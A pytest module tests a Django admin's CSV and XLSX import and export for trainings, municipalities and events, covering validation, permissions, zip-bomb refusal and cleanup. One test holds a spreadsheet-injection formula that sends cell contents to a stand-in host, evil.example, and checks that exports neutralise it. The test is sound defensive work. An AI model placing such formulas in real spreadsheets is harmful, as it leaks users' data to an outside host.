"""Spreadsheet import and export in the admin: trainings round-trip through CSV and XLSX,
a bad file writes nothing and names the row and column, viewers export but never
import, and every import page offers a template."""

import os
from datetime import UTC, datetime, timedelta
from io import StringIO

import pytest
import tablib
from django.contrib.auth.models import Group
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from admin4all.admin_history import event_model_for
from admin4all.groups import EDITORS
from admin4all.uploads import accepted_types_text
from events.models import Event
from municipalities.models import Municipality, Participation
from tests import factories
from trainings.models import PeerVisit, Training

FORMATS = {"csv": "0", "xlsx": "1"}  # indices in IMPORT_EXPORT_FORMATS
HEADER = (
    "slug,title,municipality,phase,start_date,attendance_total,"
    "attendance_women,attendance_men,attendance_other_gender"
)


def admin_url(model_class, view, **kwargs):
    return reverse(
        f"admin:{model_class._meta.app_label}_{model_class._meta.model_name}_{view}",
        kwargs=kwargs,
    )


def export(client, model_class, extension, query=""):
    """Posts the admin's export form as a person would: every column ticked."""
    page = client.get(admin_url(model_class, "export") + query)
    form = page.context["form"]
    data = {"format": FORMATS[extension], "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if field.initial is True})
    return client.post(admin_url(model_class, "export") + query, data)


def load(content: bytes, extension: str) -> tablib.Dataset:
    """A downloaded file as a dataset; CSV comes with a byte order mark for Excel."""
    if extension == "csv":
        content = content.decode("utf-8-sig")
    return tablib.Dataset().load(content, format=extension)


def preview(client, model_class, name, content):
    extension = name.rsplit(".", 1)[-1]
    return client.post(
        admin_url(model_class, "import"),
        {
            "resource": "0",
            "format": FORMATS.get(extension, "0"),
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def confirm(client, model_class, preview_response):
    return client.post(
        admin_url(model_class, "process_import"),
        preview_response.context["confirm_form"].initial,
        follow=True,
    )


def errors_by_row(response):
    return [(row.number, row.error_dict) for row in response.context["result"].invalid_rows]


@pytest.fixture
def milan(db):
    return factories.MunicipalityFactory(name="Milan", slug="milan")


@pytest.fixture
def phase_two(db):
    return factories.ProgrammePhaseFactory(number=2, slug="phase-2")


def csv_file(*rows):
    return "\n".join([HEADER, *rows]).encode()


@pytest.mark.django_db
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_trainings_round_trip_through_export_and_import(
    editor_client, milan, phase_two, extension
):
    factories.TrainingFactory(
        slug="case-management",
        title="Case management",
        municipality=milan,
        phase=phase_two,
        start_date="2019-05-06",
        attendance_total=20,
        attendance_women=12,
        attendance_men=8,
        attendance_other_gender=0,
    )
    factories.TrainingFactory(
        slug="intercultural-mediation",
        title="Intercultural mediation",
        municipality=milan,
        phase=phase_two,
    )

    exported = export(editor_client, Training, extension)
    dataset = load(exported.content, extension)
    column = {name: index for index, name in enumerate(dataset.headers)}
    rows = [list(values) for values in dataset]
    changed = next(values for values in rows if values[column["slug"]] == "case-management")
    changed[column["attendance_women"]] = 11
    changed[column["attendance_men"]] = 9
    edited = tablib.Dataset(*rows, headers=dataset.headers).export(extension)
    edited = edited.encode() if isinstance(edited, str) else edited
    page = preview(editor_client, Training, f"trainings.{extension}", edited)
    done = confirm(editor_client, Training, page)

    assert exported.status_code == 200
    assert exported["Content-Disposition"].endswith(f'.{extension}"')
    assert (changed[column["municipality"]], str(changed[column["phase"]])) == ("milan", "2")
    assert sorted((r.import_type, r.object_repr) for r in page.context["result"].rows) == [
        ("skip", "Intercultural mediation"),
        ("update", "Case management"),
    ]
    assert [str(m) for m in done.context["messages"]] == [
        "Import finished: 0 new, 1 updated, 0 deleted and 1 skipped trainings."
    ]
    assert Training.objects.values_list("slug", "attendance_women", "attendance_men").get(
        slug="case-management"
    ) == ("case-management", 11, 9)
    assert Training.objects.count() == 2


@pytest.mark.django_db
def test_import_creates_rows_recorded_with_importing_user(editor_client, editor, milan, phase_two):
    content = csv_file("housing-first,Housing first,milan,2,2019-05-06,10,6,4,0")

    page = preview(editor_client, Training, "trainings.csv", content)
    confirm(editor_client, Training, page)

    training = Training.objects.get()
    event = event_model_for(Training).objects.get(pgh_obj_id=training.pk)
    assert (training.title, training.municipality, training.phase) == (
        "Housing first",
        milan,
        phase_two,
    )
    assert (event.pgh_label, event.pgh_context.metadata["user"]) == ("insert", editor.pk)
    assert event.pgh_context.metadata["url"] == admin_url(Training, "process_import")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("third_row", "errors"),
    [
        (
            "c,Third,milan,2,06/05/2019,,,,",
            {"start_date": ["“06/05/2019” is not written as 2024-03-15."]},
        ),
        (
            "c,Third,atlantis,2,2019-05-06,,,,",
            {
                "municipality": [
                    "No single municipality has the slug or name “atlantis”.",
                ]
            },
        ),
        (
            "c,Third,milan,2,2019-05-06,20,10,8,1",
            {
                "attendance_women": [
                    "Women, men and other gender must add up to the participants when all "
                    "three are given."
                ]
            },
        ),
        ("c,Third,milan,2,2019-05-06,many,,,", {"attendance_total": ["“many” is not a number."]}),
    ],
    ids=["bad-date", "unknown-municipality", "breakdown", "not-a-number"],
)
def test_import_bad_third_row_reported_and_nothing_written(
    editor_client, milan, phase_two, third_row, errors
):
    content = csv_file(
        "a,First,milan,2,2019-05-06,,,,", "b,Second,milan,phase-2,2019-05-07,,,,", third_row
    )

    response = preview(editor_client, Training, "trainings.csv", content)

    assert response.status_code == 200
    assert errors_by_row(response) == [(3, errors)]
    assert "confirm_form" not in response.context
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
def test_import_null_character_past_the_sniffed_start_reported(editor_client, milan, phase_two):
    # A NUL near the start makes the upload check refuse the file (binary-csv below);
    # further down it is caught in its cell.
    long_text = "x" * 70_000
    content = "\n".join(
        [
            "slug,title,municipality,phase,start_date,description",
            f"a,First,milan,2,2019-05-06,{long_text}",
            "b,Second,milan,2,2019-05-06,",
            "c,Thi\x00rd,milan,2,2019-05-06,",
        ]
    ).encode()

    response = preview(editor_client, Training, "trainings.csv", content)

    assert errors_by_row(response) == [(3, {"title": ["The cell contains a null character."]})]
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
def test_confirmed_import_rolls_back_when_a_row_turned_invalid(editor_client, milan, phase_two):
    doomed = factories.MunicipalityFactory(slug="doomed")
    content = csv_file(
        "a,First,milan,2,2019-05-06,,,,",
        "b,Second,milan,2,2019-05-07,,,,",
        "c,Third,doomed,2,2019-05-08,,,,",
    )
    page = preview(editor_client, Training, "trainings.csv", content)
    doomed.delete()  # someone else's change between the preview and the confirmation

    done = confirm(editor_client, Training, page)

    assert [str(m) for m in done.context["messages"]] == [
        "Nothing was imported: some rows are no longer valid. Upload the file again."
    ]
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
def test_confirming_twice_imports_once(editor_client, milan, phase_two):
    page = preview(
        editor_client, Training, "trainings.csv", csv_file("a,First,milan,2,2019-05-06,,,,")
    )
    confirm(editor_client, Training, page)

    again = confirm(editor_client, Training, page)

    assert again.status_code == 200
    assert [str(m) for m in again.context["messages"]] == [
        "The uploaded file is gone (imported already?). Upload it again."
    ]
    assert list(Training.objects.values_list("slug", flat=True)) == ["a"]


@pytest.mark.django_db
def test_import_wrong_header_names_the_column(editor_client, milan, phase_two):
    content = b"slug,title,municipality,phase,start date\na,First,milan,2,2019-05-06\n"

    response = preview(editor_client, Training, "trainings.csv", content)

    [problem] = response.context["result"].base_errors
    assert str(problem.error).startswith(
        "Unknown columns: start date. The columns are: slug, title, municipality, phase, "
        "start_date,"
    )
    assert b"Traceback" not in response.content
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("trainings.csv", b"", "The submitted file is empty."),
        (
            "trainings.xlsx",
            b"%PDF-1.4 this is not a spreadsheet",
            "The content of this file is not a valid Excel (.xlsx) file. Accepted types: "
            + accepted_types_text()
            + ".",
        ),
        ("trainings.xlsx", b"slug,title\n", None),
        ("trainings.csv", b"slug\0,title\n\0\0\0", None),
    ],
    ids=["empty", "renamed-pdf", "csv-named-xlsx", "binary-csv"],
)
def test_import_unreadable_file_refused(editor_client, name, content, error):
    response = preview(editor_client, Training, name, content)

    assert response.status_code == 200
    form_errors = response.context["form"].errors["import_file"]
    assert form_errors == [error] if error else len(form_errors) == 1
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
def test_import_of_zip_bomb_refused_without_unpacking(editor_client, xlsx_bomb):
    # A 300 KB xlsx whose "[Content_Types].xml" unpacks to 300 MB: refused on the
    # archive's central directory, before the check or openpyxl reads any part.
    with xlsx_bomb.open("rb") as upload:
        response = editor_client.post(
            admin_url(Training, "import"),
            {"resource": "0", "format": FORMATS["xlsx"], "import_file": upload},
        )

    assert response.status_code == 200
    assert response.context["form"].errors == {
        "import_file": ["The file is too large once uncompressed: the limit is 100 MB."]
    }
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
def test_viewer_exports_but_cannot_import(viewer_client, milan, phase_two):
    factories.TrainingFactory(slug="a", municipality=milan, phase=phase_two)
    content = csv_file("b,Second,milan,2,2019-05-07,,,,")

    changelist = viewer_client.get(admin_url(Training, "changelist"))
    exported = export(viewer_client, Training, "csv")

    assert b'class="export_link"' in changelist.content
    assert b'class="import_link"' not in changelist.content
    assert viewer_client.get(admin_url(Training, "import")).status_code == 403
    assert preview(viewer_client, Training, "trainings.csv", content).status_code == 403
    assert viewer_client.post(admin_url(Training, "process_import"), {}).status_code == 403
    assert (
        viewer_client.get(admin_url(Training, "import_template", extension="csv")).status_code
        == 403
    )
    assert [row[0] for row in load(exported.content, "csv")] == ["a"]
    assert list(Training.objects.values_list("slug", flat=True)) == ["a"]


@pytest.mark.django_db
def test_editor_without_add_permission_cannot_import(client, milan, phase_two):
    user = factories.UserFactory(is_staff=True)
    editors = Group.objects.get(name=EDITORS)
    user.user_permissions.set(
        editors.permissions.filter(content_type__model="training").exclude(codename="add_training")
    )
    client.force_login(user)

    assert client.get(admin_url(Training, "import")).status_code == 403


@pytest.mark.django_db
def test_export_respects_changelist_filter(editor_client, milan, phase_two):
    factories.TrainingFactory(slug="in-phase-two", municipality=milan, phase=phase_two)
    factories.TrainingFactory(slug="in-other-phase", municipality=milan)

    response = export(editor_client, Training, "csv", f"?phase__id__exact={phase_two.pk}")

    dataset = load(response.content, "csv")
    assert dataset["slug"] == ["in-phase-two"]


@pytest.mark.django_db
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_template_has_resource_columns_and_an_example_row(editor_client, extension):
    response = editor_client.get(admin_url(Training, "import_template", extension=extension))

    dataset = load(response.content, extension)
    assert (
        response["Content-Disposition"] == f'attachment; filename="training-template.{extension}"'
    )
    assert dataset.headers[:5] == ["slug", "title", "municipality", "phase", "start_date"]
    assert dataset.headers[-1] == "attendance_other_services"
    assert list(dataset[0][2:5]) == [
        "slug or name of the municipality (required)",
        "number or slug of the programme phase (required)",
        "written as 2024-03-15 (required)",
    ]


@pytest.mark.django_db
def test_template_imported_unchanged_writes_nothing(editor_client):
    template = editor_client.get(admin_url(Training, "import_template", extension="csv"))

    response = preview(editor_client, Training, "template.csv", template.content)

    assert [number for number, _errors in errors_by_row(response)] == [1]
    assert list(Training.objects.all()) == []


@pytest.mark.django_db
@pytest.mark.parametrize("model_class", [Municipality, Participation, Training, PeerVisit, Event])
def test_import_and_export_pages_render(editor_client, model_class):
    import_page = editor_client.get(admin_url(model_class, "import"))
    export_page = editor_client.get(admin_url(model_class, "export"))
    changelist = editor_client.get(admin_url(model_class, "changelist"))

    assert (import_page.status_code, export_page.status_code) == (200, 200)
    assert admin_url(model_class, "import_template", extension="xlsx") in (
        import_page.content.decode()
    )
    assert b'class="import_link"' in changelist.content
    assert b"Deleted records" in changelist.content


@pytest.mark.django_db
def test_municipality_found_by_name_and_country_code_without_slug(editor_client):
    italy = factories.CountryFactory(name="Italy", iso_code="IT")
    milan = factories.MunicipalityFactory(name="Milan", slug="milan", country=italy)
    content = b"slug,name,country,region\n,Milan,it,Lombardy\n"

    page = preview(editor_client, Municipality, "municipalities.csv", content)
    confirm(editor_client, Municipality, page)

    milan.refresh_from_db()
    assert (Municipality.objects.count(), milan.region) == (1, "Lombardy")


@pytest.mark.django_db
def test_import_breaking_a_constraint_reported_on_the_columns_it_is_about(editor_client):
    italy = factories.CountryFactory(name="Italy", iso_code="IT")
    factories.MunicipalityFactory(name="Milan", country=italy)
    content = b"slug,name,country,latitude,longitude\nmilano,Milan,IT,,\nbari,Bari,IT,41.1,\n"

    response = preview(editor_client, Municipality, "municipalities.csv", content)

    assert errors_by_row(response) == [
        (1, {"name": ["This country already has a municipality of this name."]}),
        (
            2,
            {
                "latitude": ["Give both latitude and longitude, or neither."],
                "longitude": ["Give both latitude and longitude, or neither."],
            },
        ),
    ]
    assert Municipality.objects.count() == 1


@pytest.mark.django_db
def test_import_of_event_published_without_time_publishes_it_now(editor_client):
    content = b"slug,title,kind,status,published_at\nforum,Forum,webinar,published,\n"
    before = timezone.now()

    page = preview(editor_client, Event, "events.csv", content)
    confirm(editor_client, Event, page)

    event = Event.objects.get()
    assert event.status == "published"
    assert before <= event.published_at <= timezone.now()


@pytest.mark.django_db
def test_participations_imported_by_municipality_and_phase(editor_client, milan, phase_two):
    content = b"municipality,phase,has_coordination_mechanism\nmilan,phase-2,1\n"

    page = preview(editor_client, Participation, "participations.csv", content)
    confirm(editor_client, Participation, page)

    assert list(
        Participation.objects.values_list(
            "municipality__slug", "phase__number", "has_coordination_mechanism"
        )
    ) == [("milan", 2, True)]


@pytest.mark.django_db
def test_peer_visit_unknown_visitor_reported(editor_client, milan, phase_two):
    factories.MunicipalityFactory(slug="vienna")
    content = (
        b'slug,title,host,visitors,phase,start_date\nv,Visit,milan,"vienna,oz",2,2019-01-02\n'
    )

    response = preview(editor_client, PeerVisit, "visits.csv", content)

    assert errors_by_row(response) == [(1, {"visitors": ["No municipality has the slug “oz”."]})]
    assert list(PeerVisit.objects.all()) == []


def _peer_visit():
    factories.PeerVisitFactory().visitors.add(factories.MunicipalityFactory())


def _event():
    event = factories.EventFactory(country=factories.CountryFactory())
    event.themes.add(factories.ThemeFactory(), factories.ThemeFactory())


def _municipality():
    factories.MunicipalityFactory(
        alternative_names=["Wroclav", "Breslau"], latitude="51.10789", longitude="17.03854"
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("model_class", "make"),
    [
        (Municipality, _municipality),
        (Participation, factories.ParticipationFactory),
        (PeerVisit, _peer_visit),
        (Event, _event),
    ],
    ids=["municipality", "participation", "peer-visit", "event"],
)
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_unchanged_export_reimports_as_skipped(editor_client, model_class, make, extension):
    make()
    exported = export(editor_client, model_class, extension)

    page = preview(editor_client, model_class, f"export.{extension}", exported.content)

    assert [row.import_type for row in page.context["result"].rows] == ["skip"]


@pytest.mark.django_db
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_text_a_spreadsheet_would_run_exported_inert_and_reimported_as_typed(
    editor_client, extension
):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    factories.MunicipalityFactory(
        profile=formula, region="-Lower Silesia", latitude="36.72", longitude="-4.42"
    )
    exported = export(editor_client, Municipality, extension)
    [row] = load(exported.content, extension).dict

    page = preview(editor_client, Municipality, f"export.{extension}", exported.content)

    assert (row["profile"], row["region"], row["longitude"]) == (
        "'" + formula,
        "'-Lower Silesia",
        {"csv": "-4.42000", "xlsx": -4.42}[extension],  # a number stays a number
    )
    assert [row.import_type for row in page.context["result"].rows] == ["skip"]


@pytest.mark.django_db
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_publication_time_exported_in_the_portal_time_zone_named(editor_client, extension):
    # 07:08 UTC: 08:08 in Brussels in winter, 09:08 in summer.
    for day in (datetime(2026, 12, 7, 7, 8, tzinfo=UTC), datetime(2026, 7, 7, 7, 8, tzinfo=UTC)):
        factories.EventFactory(published_at=day)

    exported = export(editor_client, Event, extension)

    assert sorted(row["published_at"] for row in load(exported.content, extension).dict) == [
        "2026-07-07 09:08:00 CEST",
        "2026-12-07 08:08:00 CET",
    ]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("cell", "published_at"),
    [
        ("2026-07-07 09:08:00 CEST", datetime(2026, 7, 7, 7, 8, tzinfo=UTC)),
        ("2026-07-07 09:08:00", datetime(2026, 7, 7, 7, 8, tzinfo=UTC)),
        ("2026-12-07 08:08:00 CET", datetime(2026, 12, 7, 7, 8, tzinfo=UTC)),
    ],
)
def test_publication_time_imported_with_or_without_its_zone(editor_client, cell, published_at):
    content = f"slug,title,kind,status,published_at\nmilan,Milan,webinar,published,{cell}\n"

    page = preview(editor_client, Event, "events.csv", content.encode())
    confirm(editor_client, Event, page)

    assert Event.objects.get().published_at == published_at


@pytest.mark.django_db
def test_publication_time_in_a_zone_not_the_portal_one_is_an_error(editor_client):
    content = (
        b"slug,title,kind,status,published_at\n"
        b"milan,Milan,webinar,published,2026-07-07 09:08:00 CET\n"
    )

    response = preview(editor_client, Event, "events.csv", content)

    assert errors_by_row(response) == [
        (
            1,
            {
                "published_at": [
                    "“2026-07-07 09:08:00 CET”: the portal's time on that day is CEST."
                ]
            },
        )
    ]
    assert list(Event.objects.all()) == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("cell", "has_mechanism"), [("yes", True), ("No", False), ("TRUE", True), ("0", False)]
)
def test_yes_no_cell_read_in_any_usual_spelling(
    editor_client, milan, phase_two, cell, has_mechanism
):
    content = f"municipality,phase,has_coordination_mechanism\nmilan,2,{cell}\n".encode()

    page = preview(editor_client, Participation, "participations.csv", content)
    confirm(editor_client, Participation, page)

    assert Participation.objects.get().has_coordination_mechanism is has_mechanism


@pytest.mark.django_db
def test_yes_no_cell_not_understood_is_an_error_not_a_no(editor_client, milan, phase_two):
    content = b"municipality,phase,has_coordination_mechanism\nmilan,2,si\n"

    response = preview(editor_client, Participation, "participations.csv", content)

    assert errors_by_row(response) == [
        (
            1,
            {
                "has_coordination_mechanism": [
                    "“si” is neither yes nor no: write 1 for yes, 0 for no."
                ]
            },
        )
    ]
    assert list(Participation.objects.all()) == []


@pytest.mark.django_db
def test_stale_import_uploads_removed_and_recent_ones_kept(editor_client, milan, phase_two):
    stale = preview(editor_client, Training, "old.csv", csv_file("a,First,milan,2,2019-05-06,,,,"))
    recent = preview(editor_client, Training, "new.csv", csv_file("b,Next,milan,2,2019-05-07,,,,"))
    storage = storages["import_export"]
    stale_name = stale.context["confirm_form"].initial["import_file_name"]
    recent_name = recent.context["confirm_form"].initial["import_file_name"]
    day_old = (timezone.now() - timedelta(hours=25)).timestamp()
    os.utime(storage.path(f"django-import-export/{stale_name}"), (day_old, day_old))
    out = StringIO()

    call_command("remove_stale_imports", "--dry-run", stdout=out)
    listed = out.getvalue()
    call_command("remove_stale_imports", stdout=StringIO())

    assert listed == f"Would remove {stale_name}\nWould remove 1 stale import upload(s).\n"
    assert storage.exists(f"django-import-export/{recent_name}")
    assert not storage.exists(f"django-import-export/{stale_name}")
    done = confirm(editor_client, Training, recent)
    assert [str(m) for m in done.context["messages"]] == [
        "Import finished: 1 new, 0 updated, 0 deleted and 0 skipped trainings."
    ]


@pytest.mark.django_db
def test_stale_import_removal_without_any_upload_removes_nothing():
    out = StringIO()

    call_command("remove_stale_imports", stdout=out)

    assert out.getvalue() == "Removed 0 stale import upload(s).\n"
